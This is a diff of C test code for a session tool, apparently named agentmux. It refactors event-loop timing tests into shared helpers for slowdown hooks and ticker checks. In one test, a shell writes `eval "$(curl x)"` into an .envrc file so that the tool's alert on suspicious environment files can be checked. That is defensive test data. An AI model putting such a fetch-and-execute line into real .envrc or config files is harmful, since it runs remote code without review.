@@ -832,6 +832,43 @@ test_start_waits_for_recovery(void **state)
 	free(old);
 }
 
+/* Sleeps 2 s the first time FLAG is found clear (the hooks below: each walk slowed once). */
+static void
+slow_once(atomic_int *flag)
+{
+	struct timespec ts = { 2, 0 };
+
+	if (atomic_exchange(flag, 1) != 0)
+		return;
+	/* All of it: on the loop's thread a SIGCHLD would cut sleep(3) short. */
+	while (nanosleep(&ts, &ts) == -1 && errno == EINTR)
+		;
+}
+
+/* A 20 ms timer on F's loop whose gaps TK measures from now if MEASURE. */
+static void
+ticker_start(struct fixture *f, struct ticker *tk, bool measure)
+{
+	struct timeval every = { 0, 20000 };
+
+	tk->ev = event_new(f->base, -1, EV_PERSIST, ticker_cb, tk);
+	assert_non_null(tk->ev);
+	assert_int_equal(event_add(tk->ev, &every), 0);
+	tk->measure = measure;
+	tk->last_us = util_mono_us();
+}
+
+/* What the off-loop tests check of TK once their slowed walk ran (SLOWED). */
+static void
+ticker_check(const char *what, const struct ticker *tk, atomic_int *slowed)
+{
+	print_message("%s: %d ticks, the longest gap %lld ms\n", what,
+	    tk->ticks, (long long)tk->worst_us / 1000);
+	assert_int_equal(atomic_load(slowed), 1);
+	assert_true(tk->ticks > 10);
+	assert_true(tk->worst_us < 1000000);
+}
+
 /* The walk for nested repositories calls it at each dir (snap-history.c). */
 extern void (*snap_history_dir_walked)(const char *path);
 
@@ -842,14 +879,9 @@ static void
 walk_slow(const char *path)
 {
 	const char *base = strrchr(path, '/');
-	struct timespec ts = { 2, 0 };
 
-	if (base == NULL || strcmp(base + 1, "slow") != 0 ||
-	    atomic_exchange(&walk_slowed, 1) != 0)
-		return;
-	/* All of it: on the loop's thread a SIGCHLD would cut sleep(3) short. */
-	while (nanosleep(&ts, &ts) == -1 && errno == EINTR)
-		;
+	if (base != NULL && strcmp(base + 1, "slow") == 0)
+		slow_once(&walk_slowed);
 }
 
 /*
@@ -865,7 +897,6 @@ test_history_walk_off_loop(void **state)
 	struct fixture f;
 	struct obs o = { 0 };
 	struct ticker tk = { 0 };
-	struct timeval every = { 0, 20000 };
 	struct session *s;
 
 	fixture_open(&f);
@@ -874,19 +905,11 @@ test_history_walk_off_loop(void **state)
 	    "commit -qm n");
 	atomic_store(&walk_slowed, 0);
 	snap_history_dir_walked = walk_slow;
-	tk.ev = event_new(f.base, -1, EV_PERSIST, ticker_cb, &tk);
-	assert_non_null(tk.ev);
-	assert_int_equal(event_add(tk.ev, &every), 0);
-	tk.measure = true;
-	tk.last_us = util_mono_us();
+	ticker_start(&f, &tk, true);
 	s = start(&f, &o, "while [ ! -e go ]; do sleep 0.05; done; exit 4");
 	loop_until(&f, &o.started);
 	assert_true(o.ok);
-	print_message("history walk: %d ticks, the longest gap %lld ms\n",
-	    tk.ticks, (long long)tk.worst_us / 1000);
-	assert_int_equal(atomic_load(&walk_slowed), 1);
-	assert_true(tk.ticks > 10);
-	assert_true(tk.worst_us < 1000000);
+	ticker_check("history walk", &tk, &walk_slowed);
 	/* The project's git dir and the nested one are kept, in that order. */
 	test_sh_ok("printf '0\\t%%s/.git\\n1\\t%%s/slow/n/.git\\n' "
 	    "\"$PWD\" \"$PWD\" | cmp - \"$XDG_DATA_HOME/agentmux/sessions/"
@@ -911,12 +934,8 @@ static atomic_int scan_slowed;
 static void
 scan_slow(const char *rel)
 {
-	struct timespec ts = { 2, 0 };
-
-	if (strcmp(rel, "slow") != 0 || atomic_exchange(&scan_slowed, 1) != 0)
-		return;
-	while (nanosleep(&ts, &ts) == -1 && errno == EINTR)
-		;
+	if (strcmp(rel, "slow") == 0)
+		slow_once(&scan_slowed);
 }
 
 /*
@@ -932,16 +951,13 @@ test_end_scan_off_loop(void **state)
 	struct fixture f;
 	struct obs o = { 0 };
 	struct ticker tk = { 0 };
-	struct timeval every = { 0, 20000 };
 	struct session *s;
 
 	fixture_open(&f);
 	test_sh_ok("mkdir slow");
 	atomic_store(&scan_slowed, 0);
 	snap_plant_entry_walked = scan_slow;
-	tk.ev = event_new(f.base, -1, EV_PERSIST, ticker_cb, &tk);
-	assert_non_null(tk.ev);
-	assert_int_equal(event_add(tk.ev, &every), 0);
+	ticker_start(&f, &tk, false);
 	s = start(&f, &o, "while [ ! -e go ]; do sleep 0.05; done; "
 	    "echo 'eval \"$(curl x)\"' >.envrc; exit 4");
 	loop_until(&f, &o.started);
@@ -950,13 +966,10 @@ test_end_scan_off_loop(void **state)
 	tk.measure = true;
 	tk.last_us = util_mono_us();
 	loop_until(&f, &o.done);
-	print_message("end scan: %d ticks, the longest gap %lld ms, %d "
-	    "alerts (%d before exited)\n", tk.ticks,
-	    (long long)tk.worst_us / 1000, o.alerts, o.alerts_exited);
+	print_message("end scan: %d alerts (%d before exited)\n", o.alerts,
+	    o.alerts_exited);
 	assert_int_equal(o.status, 4);
-	assert_int_equal(atomic_load(&scan_slowed), 1);
-	assert_true(tk.ticks > 10);
-	assert_true(tk.worst_us < 1000000);
+	ticker_check("end scan", &tk, &scan_slowed);
 	/* The new .envrc was told, before the exit. */
 	assert_true(o.alerts_exited > 0);
 	snap_plant_entry_walked = NULL;
@@ -976,12 +989,8 @@ static atomic_int run_slowed;
 static void
 run_slow(const char *rel)
 {
-	struct timespec ts = { 2, 0 };
-
-	if (strcmp(rel, "slow") != 0 || atomic_exchange(&run_slowed, 1) != 0)
-		return;
-	while (nanosleep(&ts, &ts) == -1 && errno == EINTR)
-		;
+	if (strcmp(rel, "slow") == 0)
+		slow_once(&run_slowed);
 }
 
 /*
@@ -996,27 +1005,18 @@ test_runfiles_off_loop(void **state)
 	struct fixture f;
 	struct obs o = { 0 };
 	struct ticker tk = { 0 };
-	struct timeval every = { 0, 20000 };
 	struct session *s;
 
 	fixture_open(&f);
 	test_sh_ok("mkdir -p slow/.venv/bin && echo a >slow/.venv/bin/activate");
 	atomic_store(&run_slowed, 0);
 	snap_run_entry_walked = run_slow;
-	tk.ev = event_new(f.base, -1, EV_PERSIST, ticker_cb, &tk);
-	assert_non_null(tk.ev);
-	assert_int_equal(event_add(tk.ev, &every), 0);
-	tk.measure = true;
-	tk.last_us = util_mono_us();
+	ticker_start(&f, &tk, true);
 	s = start(&f, &o, "while [ ! -e go ]; do sleep 0.05; done; "
 	    "echo b >>slow/.venv/bin/activate; exit 4");
 	loop_until(&f, &o.started);
 	assert_true(o.ok);
-	print_message("run dirs' look: %d ticks, the longest gap %lld ms\n",
-	    tk.ticks, (long long)tk.worst_us / 1000);
-	assert_int_equal(atomic_load(&run_slowed), 1);
-	assert_true(tk.ticks > 10);
-	assert_true(tk.worst_us < 1000000);
+	ticker_check("run dirs' look", &tk, &run_slowed);
 	snap_run_entry_walked = NULL;
 	test_sh_ok("touch go");
 	loop_until(&f, &o.done);
@@ -1039,13 +1039,8 @@ static atomic_int stale_slowed;
 static void
 stale_slow(const char *dir)
 {
-	struct timespec ts = { 2, 0 };
-
 	(void)dir;
-	if (atomic_exchange(&stale_slowed, 1) != 0)
-		return;
-	while (nanosleep(&ts, &ts) == -1 && errno == EINTR)
-		;
+	slow_once(&stale_slowed);
 }
 
 /*
@@ -1059,7 +1054,6 @@ test_end_stale_off_loop(void **state)
 	struct fixture f;
 	struct obs o = { 0 };
 	struct ticker tk = { 0 };
-	struct timeval every = { 0, 20000 };
 	struct session *s;
 
 	fixture_open(&f);
@@ -1067,9 +1061,7 @@ test_end_stale_off_loop(void **state)
 	    "commit -qm a");
 	atomic_store(&stale_slowed, 0);
 	snap_stale_dir_looked = stale_slow;
-	tk.ev = event_new(f.base, -1, EV_PERSIST, ticker_cb, &tk);
-	assert_non_null(tk.ev);
-	assert_int_equal(event_add(tk.ev, &every), 0);
+	ticker_start(&f, &tk, false);
 	s = start(&f, &o, "while [ ! -e go ]; do sleep 0.05; done; "
 	    "echo changed >0/1; exit 4");
 	loop_until(&f, &o.started);
@@ -1078,12 +1070,8 @@ test_end_stale_off_loop(void **state)
 	tk.measure = true;
 	tk.last_us = util_mono_us();
 	loop_until(&f, &o.done);
-	print_message("end's index look: %d ticks, the longest gap %lld ms\n",
-	    tk.ticks, (long long)tk.worst_us / 1000);
 	assert_int_equal(o.status, 4);
-	assert_int_equal(atomic_load(&stale_slowed), 1);
-	assert_true(tk.ticks > 10);
-	assert_true(tk.worst_us < 1000000);
+	ticker_check("end's index look", &tk, &stale_slowed);
 	snap_stale_dir_looked = NULL;
 	event_free(tk.ev);
 	session_free(s);
